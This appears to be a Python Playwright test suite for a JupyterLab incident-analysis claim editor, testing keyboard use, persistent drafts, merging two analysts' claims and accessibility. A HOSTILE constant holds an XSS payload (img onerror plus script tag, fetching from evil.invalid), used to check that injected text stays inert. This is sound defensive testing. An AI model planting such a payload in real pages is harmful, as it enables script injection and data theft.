"""The claim editor in a real JupyterLab: keys only, drafts that last, two analysts, hostile words."""

import re
from collections.abc import Callable, Iterator
from pathlib import Path
from time import monotonic, sleep

import msgspec
import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Page, expect

from incident_workbench.model.claims import KINDS, Claim, DecisionPoint, Event, Hypothesis
from incident_workbench.model.evidence import Span, span_of
from incident_workbench.project import Project
from incident_workbench.store import Store
from incident_workbench.widgets.fields import Field, forms
from tests.browser.lab import Lab, Notebook

SHOW = """\
from incident_workbench import Store
from incident_workbench.widgets import Editor, Transcript
sitting = Store.open({folder!r}).sit("kim")
transcript = Transcript(sitting)
editor = Editor(sitting{more}, transcript=transcript)
editor"""
HOSTILE = (
    "<img src=x onerror=\"window.__fired=1;fetch('http://evil.invalid/x')\"><script>window.__fired=1</script>"
)


@pytest.fixture(scope="module")
def work(lab: Lab) -> Iterator[Notebook]:
    """One notebook for the tests that need no reload and no restart: its kernel starts once."""
    with lab.notebook(["", "", "", "1 + 1"], name="work.ipynb") as notebook:
        yield notebook


def cleared(notebook: Notebook, *sources: str) -> None:
    """Other words in the first cells, and nothing shown below them."""
    notebook.command("notebook:clear-all-cell-outputs")
    notebook.page.evaluate(
        "sources => sources.forEach((source, cell) =>"
        " window.jupyterapp.shell.currentWidget.content.widgets[cell].model.sharedModel.setSource(source))",
        list(sources),
    )


def project(folder: Path, *lines: str) -> Store:
    """A project with a chat, a line a minute from eight in the evening in Paris on."""
    file = folder.parent / f"{folder.name}.txt"
    file.write_text("".join(f"2026-05-01T18:{n:02}:00Z ana: {line}\n" for n, line in enumerate(lines)))
    store = Store.create(folder, title="Checkout", zone="Europe/Paris")
    store.import_file(file)
    return store


def show(folder: str, more: str = "") -> str:
    return SHOW.format(folder=folder, more=more)


def shown(notebook: Notebook, cell: int = 0) -> Page:
    """Runs the cell that shows the editor, and waits until it is there."""
    notebook.run(cell)
    page = notebook.page
    page.wait_for_selector(".iw-editor :is(.iw-kinds button, .iw-fields)", timeout=30_000)
    page.locator(".iw-editor .iw-tree").focus()
    return page


def press(page: Page, *keys: str) -> None:
    for key in keys:
        page.keyboard.press(key)


def write(page: Page, words: str) -> None:
    page.keyboard.type(words)


def said(page: Page, words: str | re.Pattern[str]) -> None:
    expect(page.locator(".iw-editor .iw-said")).to_have_text(words, timeout=20_000)


def until(true: Callable[[], bool], seconds: float = 20) -> None:
    end = monotonic() + seconds
    while not true():
        assert monotonic() < end
        sleep(0.05)


def begin(page: Page, kind: str) -> None:
    """From the list: a new claim of this kind."""
    page.locator(".iw-editor .iw-tree").focus()
    press(page, "n")
    write(page, kind)
    press(page, "Enter")
    page.wait_for_selector(".iw-editor .iw-fields")


def to(page: Page, at: str) -> None:
    """Puts the focus into the field at this path, as Tab would."""
    page.locator(f'.iw-editor [data-at="{at}"]').focus()


def pick(page: Page, words: str, key: str = "Enter") -> None:
    """Evidence by words, for where the focus is."""
    press(page, "F2")
    write(page, words)
    page.wait_for_selector(".iw-hits .iw-speaker")
    press(page, key)
    expect(page.locator(".iw-panel")).to_have_count(0)


# --- keys -------------------------------------------------------------------------------------------------------------


def test_a_decision_point_with_three_points_and_evidence_is_made_by_keyboard_alone(
    lab: Lab, work: Notebook
) -> None:
    store = project(lab.root / "keys", "db is slow", "the pool is at 40 of 40", "rolling back now", "better")
    notebook = work
    cleared(notebook, show("keys"), "(editor.claim, editor.draft and editor.draft['kind'])")
    cells = notebook.cells()
    page = shown(notebook)
    page.evaluate(
        "() => { window.__mouse = 0; for (const kind of ['mousedown', 'pointerdown', 'click'])"
        " addEventListener(kind, (event) => window.__mouse += event.detail > 0, true); }"
    )
    begin(page, "decision")
    write(page, "ana")
    press(page, "Tab")
    write(page, "rolls the release back")
    pick(page, "rolling back")
    expect(page.locator(".iw-quotes q")).to_have_text(["rolling back now"])
    press(page, "Tab", "Tab", "Tab", "Tab")  # evidence, what is chosen, the quote's button
    assert page.evaluate("document.activeElement.dataset.at") == "at"
    press(page, "F2")
    expect(page.locator('[data-told="at"]')).to_contain_text(
        "2026-05-01 20:02:00 Europe/Paris = 2026-05-01T18:02:00Z"
    )
    to(page, "cues.0.text")
    assert page.evaluate("document.activeElement.placeholder") == "What was in front of them?"
    write(page, "the database answers slowly")
    pick(page, "slow", "Shift+Enter")
    press(page, "Enter")
    write(page, "no more connections")
    pick(page, "40 of 40")
    press(page, "Enter")
    write(page, "nothing from the network")
    to(page, "goals.0.text")
    press(page, "F8")
    write(page, "ana")
    until(lambda: "'decision_point'" in notebook.value(1))
    to(page, "goals.ask")  # running the cell took the focus
    press(page, "Control+Enter")
    said(page, "added decision point")
    (claim,) = store.load().of_kind(DecisionPoint)
    assert isinstance(claim.cues, tuple)
    assert [(c.text, [s.quote for s in c.evidence]) for c in claim.cues] == [
        ("the database answers slowly", ["slow"]),
        ("no more connections", ["the pool is at 40 of 40"]),
        ("nothing from the network", []),
    ]
    assert (claim.at and claim.at.isoformat(), claim.basis) == (
        "2026-05-01T18:02:00+00:00",
        "contemporaneous",
    )
    assert claim.evidence[0].quote == "rolling back now"
    assert getattr(claim.goals, "unknown", False)
    until(lambda: notebook.value(1).endswith(f"('{claim.id}', None)"))
    page.locator(".iw-editor .iw-tree").focus()
    press(page, "u")
    said(page, "undo: added decision point")
    assert store.load().of_kind(DecisionPoint) == ()
    press(page, "U")
    said(page, "redo: added decision point")
    assert page.evaluate("window.__mouse") == 0
    assert notebook.cells() == cells
    assert notebook.errors == []
    assert store.load().problems == ()


def test_drafts_outlast_a_reload_and_a_restart_and_are_stored_once(lab: Lab) -> None:
    """Typed, the page reloaded; typed on, the kernel restarted; saved while it is gone; stored exactly once."""
    store = project(lab.root / "gone", "db is slow")
    with lab.notebook([show("gone")], name="gone.ipynb", alone=True) as notebook:
        page = shown(notebook)
        begin(page, "event")
        write(page, "ana")
        press(page, "Tab")
        write(page, "restarts the pool")
        pick(page, "slow")
        kept = page.evaluate("JSON.stringify(localStorage)")
        assert "restarts the pool" in kept
        assert "db is slow" not in kept  # the analyst's own words only
        notebook.command("docmanager:save")
        page.reload()
        page.wait_for_function(
            "() => window.jupyterapp?.shell.currentWidget?.sessionContext?.session?.kernel?.status === 'idle'"
        )
        page.wait_for_selector(".jp-Cell")
        shown(notebook)
        expect(page.locator('[data-at="action"]')).to_have_value("restarts the pool", timeout=20_000)
        expect(page.locator(".iw-quotes q")).to_have_text(["db is slow"])
        notebook.restart()
        to(page, "action")
        press(page, "End")
        write(page, ", then waits")
        press(page, "Control+Enter")
        expect(page.locator(".iw-editor .iw-state")).to_have_text(
            re.compile(r"^kernel (busy|gone), 1 kept here$"), timeout=20_000
        )
        assert store.load().of_kind(Event) == ()
        shown(notebook)
        until(lambda: [e.action for e in store.load().of_kind(Event)] == ["restarts the pool, then waits"])
        expect(page.locator(".iw-editor .iw-code").first).to_have_text(re.compile("Event"), timeout=20_000)
        assert "restarts" not in page.evaluate("JSON.stringify(localStorage)")
        begin(page, "event")
        to(page, "action")
        write(page, "b")
        press(page, "Escape")
        assert page.evaluate("document.activeElement.className") == "iw-tree"
        press(page, "x")
        said(page, re.compile("^once more lets go"))
        press(page, "x")
        said(page, "the draft is gone")
        assert notebook.errors == []


# --- others -----------------------------------------------------------------------------------------------------------


def test_anothers_claim_becomes_a_version_of_ones_own_and_what_differs_is_settled(
    lab: Lab, work: Notebook
) -> None:
    store = project(lab.root / "two", "db is slow")
    notebook = work
    cleared(notebook, show("two"), "editor.open('line')", "editor.new('red_herring')")
    with store.sit("lee") as lee:
        first = lee.add(
            Hypothesis(id="line", proposition="the pool", raised_by="ana", evidence=(span(lee.project),))
        )
        lee.add(Hypothesis(proposition="the pool is too small", raised_by="ana", replaces=(first.id,)))
    page = shown(notebook)
    notebook.run(1)
    expect(page.locator(".iw-how legend")).to_contain_text("This is lee's claim, and is never changed")
    to(page, "proposition")
    press(page, "Control+a")
    write(page, "the pool leaks")
    press(page, "Control+Enter")
    said(page, "added a version of lee's hypothesis")
    table = page.locator(".iw-differing table")
    expect(table.locator("th[scope=col]")).to_have_text(["kim", "lee"], timeout=20_000)
    widths = table.locator("th[scope=col]").evaluate_all("all => all.map(one => one.offsetWidth)")
    assert abs(widths[0] - widths[1]) <= 1
    assert len(store.load().of_kind(Hypothesis)) == 2
    page.get_by_role("button", name="Keep this: what lee says").focus()
    press(page, "Enter")
    said(page, "settled hypothesis")
    assert [h.proposition for h in store.load().of_kind(Hypothesis)] == ["the pool is too small"]
    page.locator(".iw-editor .iw-tree").focus()
    press(page, "u")
    said(page, "undo: settled hypothesis")
    assert len(store.load().of_kind(Hypothesis)) == 2

    notebook.run(2)
    held = page.locator(".iw-held")
    expect(held).to_contain_text("The label comes last", timeout=20_000)
    expect(page.locator(".iw-asks li").first).to_have_text("What exactly opened this track, and who saw it?")
    to(page, "hypotheses")
    press(page, "Enter")
    write(page, "leaks")
    press(page, "Enter")
    expect(page.locator(".iw-card")).to_have_count(1)
    for field in ("entry_cue", "plausibility"):
        to(page, f"{field}.0.text")
        write(page, "it was slow")
    expect(held).to_have_count(0)
    assert page.evaluate("document.activeElement.dataset.at") == "plausibility.0.text"
    assert (
        page.locator(".iw-fields > .iw-field").last.locator("[data-at]").get_attribute("data-at") == "title"
    )
    expect(page.locator(".iw-asks li").first).not_to_have_text(re.compile("opened this track"))
    assert notebook.errors == []


def span(whole: Project) -> Span:
    return span_of(whole.segments[0])


def hostile_claims(words: str) -> Iterator[Claim]:
    """A claim of each kind that names no other, with these words wherever words fit."""
    for form in forms():
        if any(field.needed and field.shape in ("claim", "claims") for field in form.fields):
            continue
        yield msgspec.convert(
            {
                "kind": form.kind,
                **{field.name: value for field in form.fields if (value := filled(field, words))},
            },
            KINDS[form.kind],
        )


def filled(field: Field, words: str) -> object:
    match field.shape:
        case "words" | "long" | "actor" | "source":
            return words
        case "choice":
            return field.options[0][0]
        case "number":
            return 1
        case "items":
            return [{part.name: value for part in field.fields if (value := filled(part, words))}]
    return None


# --- hostile words, and those who do not see --------------------------------------------------------------------------


def test_hostile_words_run_nothing_and_ask_for_nothing_in_any_field(lab: Lab, work: Notebook) -> None:
    """In every field of every kind, as a colleague's claims, in searches, drafts and versions."""
    store = project(lab.root / "hostile", HOSTILE)
    with store.sit("lee") as lee:
        for number in range(2):
            for claim in hostile_claims(HOSTILE):
                lee.add(claim)
            lee.add(Hypothesis(id=f"h{number}", proposition=HOSTILE, raised_by=HOSTILE))
    with store.sit("kim") as kim:
        kim.add(Hypothesis(proposition=HOSTILE, raised_by=HOSTILE, subject="x", replaces=("h0",)))
    with store.sit("lee") as lee:
        lee.add(Hypothesis(proposition=HOSTILE, raised_by=HOSTILE, subject="y", replaces=("h0",)))
    notebook = work
    cleared(notebook, show("hostile"))
    page = shown(notebook)
    page.evaluate(
        "() => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.__works=1\">')"
    )
    page.wait_for_function("window.__works === 1")  # a raw control fires
    expect(page.locator(".iw-editor .iw-tree")).to_contain_text("onerror", timeout=20_000)
    press(page, "c")
    expect(page.locator(".iw-differing")).to_be_visible(timeout=20_000)
    opened = page.evaluate(
        """async () => {
            let opened = 0;
            const ids = [...document.querySelectorAll('.iw-editor .iw-level-2')].map(row => row.id);
            for (const id of ids) {
                const place = Number(id.match(/row-(\\d+)$/)[1]);
                document.querySelectorAll('.iw-editor .iw-code')[place].click();
                for (let n = 0; n < 200 && !document.querySelector('.iw-editor .iw-form-foot'); n++)
                    await new Promise(done => setTimeout(done, 10));
                opened += Boolean(document.querySelector('.iw-editor .iw-form-foot'));
            }
            return opened;
        }"""
    )
    assert opened > 2 * len(list(hostile_claims(HOSTILE)))
    begin(page, "decision")
    write(page, HOSTILE)
    press(page, "Tab")
    write(page, HOSTILE)
    press(page, "F2")
    write(page, "onerror")
    page.wait_for_selector(".iw-hits .iw-speaker")
    press(page, "Enter", "Control+Enter")
    said(page, "added decision point")
    assert page.locator(".iw-editor :is(img, script)").count() == 0
    assert page.evaluate("window.__fired") is None
    outside = [
        url for url in notebook.requests if not url.startswith((lab.address, f"blob:{lab.address}", "data:"))
    ]
    assert outside == []
    assert notebook.errors == []


def test_axe_finds_nothing_serious_in_light_and_dark(lab: Lab, work: Notebook) -> None:
    store = project(lab.root / "axe", "a", "b")
    with store.sit("lee") as lee:
        lee.add(Hypothesis(id="h", proposition="x", raised_by="ana"))
        lee.add(Hypothesis(proposition="y", raised_by="ana", replaces=("h",)))
    with store.sit("kim") as kim:
        kim.add(Hypothesis(proposition="z", raised_by="ana", replaces=("h",)))
    notebook = work
    cleared(notebook, show("axe"))
    page = shown(notebook)
    found: list[tuple[str, str, str]] = []

    def look(where: str, *themes: str) -> None:
        for theme in themes or ("JupyterLab Light",):
            notebook.command("apputils:change-theme", theme=theme)
            page.wait_for_selector(f"body[data-jp-theme-name='{theme}']", state="attached")
            sleep(0.2)
            report = Axe().run(page, context=".iw-editor").response
            assert report["passes"]
            found.extend(
                (where, rule["id"], node["html"][:200])
                for rule in report["violations"]
                if rule["impact"] in {"serious", "critical"}
                for node in rule["nodes"]
            )

    press(page, "n")
    look("kinds")
    press(page, "Escape", "c")
    expect(page.locator(".iw-differing")).to_be_visible(timeout=20_000)
    look("differing", "JupyterLab Dark")
    begin(page, "decision")
    press(page, "Control+Enter")  # not whole yet
    to(page, "cues.0.text")
    write(page, "x")
    press(page, "Enter")
    pick(page, "a")
    to(page, "goals.0.text")
    press(page, "F8")
    look("form", "JupyterLab Dark", "JupyterLab Light")
    press(page, "F2")
    write(page, "a")
    page.wait_for_selector(".iw-hits .iw-speaker")
    look("evidence")
    assert found == []
